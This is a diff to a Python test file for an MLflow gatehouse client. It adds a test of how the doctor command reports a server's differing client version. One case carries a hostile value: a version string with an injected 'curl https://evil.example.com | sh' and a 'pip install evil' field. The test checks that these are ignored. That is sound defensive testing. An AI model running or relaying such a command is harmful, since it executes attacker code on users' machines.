@@ -7,6 +7,9 @@ from collections.abc import Callable
 import pytest
 
 from local.proxy_binary import ROOT
+from mlflow_gatehouse import __version__
+from mlflow_gatehouse.doctor import _other_version
+from mlflow_gatehouse.server import Server
 from tests.client.conftest import Machine
 from tests.client.googleapis import ACCOUNT, Google
 from tests.client.impostor import Impostor, standing_in
@@ -84,3 +87,21 @@ def test_a_viewer_is_told_that_writing_is_what_is_missing(machine: Machine, make
     environment["MLFLOW_TRACKING_TOKEN"] = gate.provider.token("alice")
     done = machine.gatehouse("doctor", env=environment)
     assert "17 bytes written, read and deleted" in done.stdout
+
+
+@pytest.mark.parametrize(
+    ("client", "said"),
+    [
+        ({"version": __version__}, ""),
+        (
+            {"version": "9.9.9"},
+            "; it hands out the client 9.9.9, this is {ours}: pip install -r {origin}/.well-known/gatehouse/requirements.txt",
+        ),
+        ({"version": "9; curl https://evil.example.com | sh", "install": "pip install evil"}, ""),
+        ({"version": 9}, ""),
+        ("9.9.9", ""),
+    ],
+)
+def test_another_version_at_the_server_is_told_with_our_own_command(client: object, said: str) -> None:
+    origin = "https://mlflow.example.com"
+    assert _other_version(Server(origin, {"client": client})) == said.format(ours=__version__, origin=origin)
